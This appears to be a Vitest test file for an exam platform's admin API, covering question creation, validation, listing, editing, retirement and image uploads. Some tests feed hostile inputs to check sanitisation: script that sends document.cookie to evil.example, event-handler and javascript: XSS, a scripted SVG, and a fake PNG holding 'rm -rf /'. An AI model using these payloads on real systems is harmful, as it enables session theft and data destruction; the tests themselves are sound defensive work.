import { and, eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { auditLog, questionOptions, questions, testAnswers, tests, users } from '../../db/schema';
import { createTestApp, type TestContext } from '../../test/test-app';
import { MALFORMED_UPLOAD_MESSAGE } from './uploads';
import {
  createExamTree,
  PNG_BYTES,
  signedInAdmin,
  singleChoice,
  type Caller,
  type Envelope,
} from '../../test/content-fixtures';

type Option = { id: string; value: string; answer: boolean; selected: number };
type Question = {
  id: string;
  type: string;
  question: string;
  explanation: string;
  answer: string | null;
  options: Option[];
  examName: string;
  courseName: string;
  subjectName: string;
  subjectId: string;
};

describe('questions', () => {
  let context: TestContext;
  let admin: Caller & { id: string };
  let tree: Awaited<ReturnType<typeof createExamTree>>;
  let imageUrl: string;

  beforeAll(async () => {
    context = await createTestApp();
    admin = await signedInAdmin(context, ['admin']);
    tree = await createExamTree(admin, 'Questions exam');
    const upload = await admin.upload('POST', '/admin/upload/image', {
      field: 'image',
      name: 'chart.png',
      bytes: PNG_BYTES,
      type: 'image/png',
    });
    imageUrl = upload.json<Envelope<{ url: string }>>().data.url;
  });
  afterAll(() => context.close());

  const create = (body: object, subjectId = tree.subjectId) =>
    admin.post(`/admin/exam/subject/${subjectId}/question`, body);
  const created = async (body: object) => {
    const response = await create(body);
    expect(response.statusCode, response.body).toBe(201);
    return response.json<Envelope<{ question: Question }>>().data.question;
  };

  describe('add', () => {
    it('adds a question of each type with an image from our uploads', async () => {
      const single = await created({
        ...singleChoice(),
        question: `<p>Which drug is an opioid?</p><p><img src="${imageUrl}" alt="chart"></p>`,
      });
      expect(single).toMatchObject({
        type: 'single_choice',
        question: `<p>Which drug is an opioid?</p><p><img src="${imageUrl}" alt="chart" /></p>`,
        answer: null,
        examName: 'Questions exam',
        courseName: 'Pharmacology',
        subjectName: 'Analgesics',
      });
      expect(
        single.options.map((option) => [option.value, option.answer, option.selected]),
      ).toEqual([
        ['Paracetamol', false, 0],
        ['Morphine', true, 0],
        ['Ibuprofen', false, 0],
        ['Aspirin', false, 0],
      ]);

      const multiple = await created({
        type: 'multiple_choice',
        question: '<p>Which are NSAIDs?</p>',
        options: [
          { value: 'Ibuprofen', answer: true },
          { value: 'Naproxen', answer: true },
          { value: 'Codeine', answer: false },
        ],
      });
      expect(multiple.options.filter((option) => option.answer)).toHaveLength(2);
      expect(multiple.explanation).toBe('');

      const blank = await created({
        type: 'fill_in_the_blanks',
        question: '<p>Normal resting heart rate is 60 to ___ bpm.</p>',
        answer: ' 100 ',
        options: [],
      });
      expect(blank).toMatchObject({ answer: '100', options: [] });

      const [audit] = await context.db
        .select()
        .from(auditLog)
        .where(and(eq(auditLog.entityId, blank.id), eq(auditLog.action, 'created')));
      expect(audit?.adminId).toBe(admin.id);
    });

    it.each([
      [
        'no question',
        { ...singleChoice(), question: '<p></p>' },
        'question',
        'Question is required',
      ],
      [
        'one option',
        { ...singleChoice(), options: [{ value: 'Only', answer: true }] },
        'options',
        'Add at least 2 options',
      ],
      [
        'an empty option',
        {
          ...singleChoice(),
          options: [
            { value: 'A', answer: true },
            { value: '<p> </p>', answer: false },
          ],
        },
        'options.1.value',
        'Option b is required',
      ],
      [
        'no correct answer',
        {
          ...singleChoice(),
          options: [
            { value: 'A', answer: false },
            { value: 'B', answer: false },
          ],
        },
        'answer',
        'Choose the correct answer',
      ],
      [
        'two answers to a single choice',
        {
          ...singleChoice(),
          options: [
            { value: 'A', answer: true },
            { value: 'B', answer: true },
          ],
        },
        'answer',
        'A single choice question has one correct answer',
      ],
      [
        'no answer to a multiple choice',
        {
          type: 'multiple_choice',
          question: 'Q',
          options: [
            { value: 'A', answer: false },
            { value: 'B', answer: false },
          ],
        },
        'answer',
        'Choose at least one correct answer',
      ],
      [
        'no answer text',
        { type: 'fill_in_the_blanks', question: 'Q', answer: '' },
        'answer',
        'Answer is required',
      ],
      [
        'options on a fill in the blanks',
        {
          type: 'fill_in_the_blanks',
          question: 'Q',
          answer: 'x',
          options: [{ value: 'A', answer: true }],
        },
        'options',
        'A fill in the blanks question has an answer text, not options',
      ],
      ['an unknown type', { ...singleChoice(), type: 'essay' }, 'type', 'Choose a question type'],
      [
        'eleven options',
        {
          ...singleChoice(),
          options: Array.from({ length: 11 }, (_, i) => ({ value: `o${i}`, answer: i === 0 })),
        },
        'options',
        'A question has at most 10 options',
      ],
    ])('refuses %s', async (_name, body, path, message) => {
      const response = await create(body);
      expect(response.statusCode).toBe(400);
      expect(
        response.json<{ details: { path: string; message: string }[] }>().details,
      ).toContainEqual({
        path,
        message,
      });
    });

    it('sanitizes hostile HTML in every rich-text field before storing it', async () => {
      const question = await created({
        type: 'single_choice',
        question:
          '<p onclick="steal()">Dose?<script>fetch("//evil.example?c="+document.cookie)</script></p><img src="https://evil.example/p.png"><iframe src="https://evil.example"></iframe>',
        explanation: '<a href="javascript:alert(1)">see</a><img src=x onerror=alert(1)>',
        options: [
          { value: '<b onmouseover="x()">5 mg</b>', answer: true },
          { value: '10 mg<style>*{display:none}</style>', answer: false },
        ],
      });
      expect(question.question).toBe('<p>Dose?</p>');
      expect(question.explanation).toBe('<a rel="noopener noreferrer nofollow">see</a>');
      expect(question.options.map((option) => option.value)).toEqual(['<b>5 mg</b>', '10 mg']);
      const [stored] = await context.db
        .select()
        .from(questions)
        .where(eq(questions.id, question.id));
      expect(stored?.questionHtml).toBe('<p>Dose?</p>');
    });

    it('refuses a question that is nothing but hostile HTML', async () => {
      const response = await create({
        ...singleChoice(),
        question: '<script>alert(1)</script><img src="https://evil.example/x.png">',
      });
      expect(response.statusCode).toBe(400);
      expect(response.json<{ message: string }>().message).toBe('Question is required');
    });

    it('needs a live subject', async () => {
      expect(
        (await create(singleChoice(), '00000000-0000-4000-8000-000000000000')).statusCode,
      ).toBe(404);
    });
  });

  describe('lists', () => {
    it("lists a subject's questions and every question with filters, search and pages", async () => {
      const other = await createExamTree(admin, 'Other exam');
      await admin.post(`/admin/exam/subject/${other.subjectId}/question`, {
        type: 'fill_in_the_blanks',
        question: '<p>Unique zebra question</p>',
        answer: 'zebra',
      });
      const ofSubject = await admin.get(`/admin/exam/subject/${tree.subjectId}/question`, {
        perPage: '2',
      });
      expect(ofSubject.statusCode).toBe(200);
      const body =
        ofSubject.json<Envelope<{ questions: Question[]; pagination: { total: number } }>>();
      expect(body.data.questions).toHaveLength(2);
      expect(body.data.questions.every((question) => question.subjectId === tree.subjectId)).toBe(
        true,
      );
      expect(body.data.pagination.total).toBeGreaterThanOrEqual(4);

      const all = await admin.get('/admin/question', { search: 'zebra' });
      expect(
        all.json<Envelope<{ questions: Question[] }>>().data.questions.map((q) => q.examName),
      ).toEqual(['Other exam']);
      const byExam = await admin.get('/admin/question', { examId: other.examId });
      expect(byExam.json<Envelope<{ questions: Question[] }>>().data.questions).toHaveLength(1);
      const byType = await admin.get('/admin/question', {
        type: 'multiple_choice',
        examId: tree.examId,
      });
      expect(
        byType
          .json<Envelope<{ questions: Question[] }>>()
          .data.questions.every((q) => q.type === 'multiple_choice'),
      ).toBe(true);
      const byCourse = await admin.get('/admin/question', { courseId: other.courseId });
      expect(byCourse.json<Envelope<{ questions: Question[] }>>().data.questions).toHaveLength(1);
      expect((await admin.get('/admin/question', { type: 'essay' })).statusCode).toBe(400);
      expect((await admin.get('/admin/question', { examId: 'x' })).statusCode).toBe(400);
    });
  });

  describe('edit', () => {
    it('replaces the content, keeping the pick counts of options kept by id', async () => {
      const question = await created(singleChoice('To edit?'));
      const [first, second, , fourth] = question.options;
      await context.db
        .update(questionOptions)
        .set({ pickCount: 7 })
        .where(eq(questionOptions.id, second!.id));

      const response = await admin.patch(`/admin/question/${question.id}`, {
        type: 'multiple_choice',
        question: '<p>Edited?</p>',
        explanation: '<p>Because.</p>',
        options: [
          { id: second!.id, value: 'Morphine (edited)', answer: true },
          { id: first!.id, value: 'Paracetamol', answer: true },
          { value: 'Fentanyl', answer: true },
          { id: fourth!.id, value: 'Aspirin', answer: false },
        ],
      });
      expect(response.statusCode, response.body).toBe(200);
      const edited = response.json<Envelope<{ question: Question }>>().data.question;
      expect(edited).toMatchObject({ type: 'multiple_choice', question: '<p>Edited?</p>' });
      expect(edited.options.map((o) => [o.value, o.answer, o.selected])).toEqual([
        ['Morphine (edited)', true, 7],
        ['Paracetamol', true, 0],
        ['Fentanyl', true, 0],
        ['Aspirin', false, 0],
      ]);
      expect(edited.options[0]!.id).toBe(second!.id);

      const fetched = await admin.get(`/admin/question/${question.id}`);
      expect(fetched.json<Envelope<{ question: Question }>>().data.question).toEqual(edited);

      const toBlank = await admin.patch(`/admin/question/${question.id}`, {
        type: 'fill_in_the_blanks',
        question: '<p>Now a blank: ___</p>',
        answer: 'morphine',
      });
      expect(toBlank.json<Envelope<{ question: Question }>>().data.question).toMatchObject({
        answer: 'morphine',
        options: [],
      });
    });

    it('refuses an option id of another question', async () => {
      const one = await created(singleChoice('One?'));
      const two = await created(singleChoice('Two?'));
      const response = await admin.patch(`/admin/question/${one.id}`, {
        ...singleChoice(),
        options: [
          { id: two.options[0]!.id, value: 'Stolen', answer: true },
          { value: 'B', answer: false },
        ],
      });
      expect(response.statusCode).toBe(400);
      expect(response.json<{ message: string }>().message).toBe(
        'An option does not belong to this question',
      );
    });

    it('refuses the same option sent twice, which would leave fewer options than checked', async () => {
      const question = await created(singleChoice('Twice?'));
      const [first] = question.options;
      const response = await admin.patch(`/admin/question/${question.id}`, {
        ...singleChoice(),
        options: [
          { id: first!.id, value: 'Right', answer: true },
          { id: first!.id, value: 'Wrong', answer: false },
        ],
      });
      expect(response.statusCode).toBe(400);
      expect(response.json()).toMatchObject({
        details: [
          { path: 'options.1.id', message: 'Option b is the same option as an earlier one' },
        ],
      });
      const unchanged = await admin.get(`/admin/question/${question.id}`);
      expect(unchanged.json<Envelope<{ question: Question }>>().data.question.options).toHaveLength(
        4,
      );
    });
  });

  describe('delete', () => {
    it('deletes a question nobody has answered', async () => {
      const question = await created(singleChoice('Unanswered?'));
      const response = await admin.delete(`/admin/question/${question.id}`);
      expect(response.statusCode).toBe(200);
      expect(response.json<Envelope<{ retired: boolean }>>().data).toMatchObject({
        retired: false,
        message: 'Question deleted successfully',
      });
      expect(
        await context.db.select().from(questions).where(eq(questions.id, question.id)),
      ).toEqual([]);
    });

    it('retires a question students answered, keeping their answers', async () => {
      const question = await created(singleChoice('Answered?'));
      const [student] = await context.db
        .insert(users)
        .values({ firstName: 'A', lastName: 'B', email: 'answered@example.com' })
        .returning();
      const [test] = await context.db
        .insert(tests)
        .values({
          userId: student!.id,
          examId: tree.examId,
          type: 'practice',
          questionIds: [question.id],
        })
        .returning();
      await context.db.insert(testAnswers).values({
        testId: test!.id,
        questionId: question.id,
        selectedOptionIds: [question.options[1]!.id],
        isCorrect: true,
      });

      const response = await admin.delete(`/admin/question/${question.id}`);
      expect(response.json<Envelope<{ retired: boolean }>>().data).toMatchObject({
        retired: true,
        retiredQuestions: 1,
        message: 'Question retired: it leaves new tests, and the answers students gave are kept',
      });
      const [stored] = await context.db
        .select()
        .from(questions)
        .where(eq(questions.id, question.id));
      expect(stored?.retiredAt).toBeInstanceOf(Date);
      expect(
        await context.db.select().from(testAnswers).where(eq(testAnswers.testId, test!.id)),
      ).toHaveLength(1);
      expect((await admin.get(`/admin/question/${question.id}`)).statusCode).toBe(404);
      const list = await admin.get('/admin/question', { search: 'Answered?' });
      expect(list.json<Envelope<{ questions: Question[] }>>().data.questions).toEqual([]);
      expect((await admin.delete(`/admin/question/${question.id}`)).statusCode).toBe(404);
      const [audit] = await context.db
        .select()
        .from(auditLog)
        .where(and(eq(auditLog.entityId, question.id), eq(auditLog.action, 'retired')));
      expect(audit?.adminId).toBe(admin.id);
    });
  });

  describe('image upload for the editor', () => {
    it('answers the URL of a stored image and records the upload', async () => {
      expect(imageUrl).toMatch(/^\/uploads\/[a-f0-9]{64}\.png$/);
      const [audit] = await context.db
        .select()
        .from(auditLog)
        .where(and(eq(auditLog.entity, 'image'), eq(auditLog.entityId, imageUrl)));
      expect(audit).toMatchObject({ adminId: admin.id, action: 'uploaded' });
    });

    it('stores an SVG without its script, and serves it under a CSP that runs nothing', async () => {
      const response = await admin.upload('POST', '/admin/upload/image', {
        field: 'image',
        name: 'diagram.svg',
        bytes:
          '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script><circle r="3"/></svg>',
        type: 'image/svg+xml',
      });
      expect(response.statusCode).toBe(201);
      const url = response.json<Envelope<{ url: string }>>().data.url;
      expect(url).toMatch(/\.svg$/);
      const served = await context.app.inject({ method: 'GET', url });
      expect(served.headers['content-type']).toBe('image/svg+xml');
      expect(served.body).toContain('<circle r="3">');
      expect(served.body).not.toMatch(/script|onload/);
      expect(served.headers['content-security-policy']).toMatch(/default-src 'none'.*sandbox/);
    });

    it('refuses a script renamed .png and an oversized image', async () => {
      const script = await admin.upload('POST', '/admin/upload/image', {
        field: 'image',
        name: 'innocent.png',
        bytes: '#!/bin/sh\nrm -rf /\n',
        type: 'image/png',
      });
      expect(script.statusCode).toBe(400);
      const html = await admin.upload('POST', '/admin/upload/image', {
        field: 'image',
        name: 'page.gif',
        bytes: '<html><script>alert(1)</script></html>',
        type: 'image/gif',
      });
      expect(html.statusCode).toBe(400);
      const oversized = await admin.upload('POST', '/admin/upload/image', {
        field: 'image',
        name: 'big.png',
        bytes: Buffer.concat([PNG_BYTES, Buffer.alloc(5 * 1024 * 1024 + 1)]),
      });
      expect(oversized.statusCode).toBe(413);
      const empty = await admin.upload('POST', '/admin/upload/image', {
        field: 'image',
        name: 'empty.png',
        bytes: Buffer.alloc(0),
      });
      expect(empty.statusCode).toBe(400);
    });

    it('answers a multipart body it cannot read with 400, not 500', async () => {
      const send = (contentType: string, payload: string) =>
        context.app.inject({
          method: 'POST',
          url: '/api/v1/admin/upload/image',
          headers: { authorization: `Bearer ${admin.token}`, 'content-type': contentType },
          payload,
        });
      const part = '--b\r\nContent-Disposition: form-data; name="image"; filename="a.png"\r\n\r\n';
      for (const [contentType, payload] of [
        ['multipart/form-data; boundary=b', '--b\r\n'],
        ['multipart/form-data; boundary=b', `${part}cut short`],
        ['multipart/form-data', `${part}no boundary\r\n--b--\r\n`],
      ] as const) {
        const response = await send(contentType, payload);
        expect(response.statusCode).toBe(400);
        expect(response.json()).toEqual({
          message: MALFORMED_UPLOAD_MESSAGE,
          error: 'Bad Request',
        });
      }
    });
  });
});
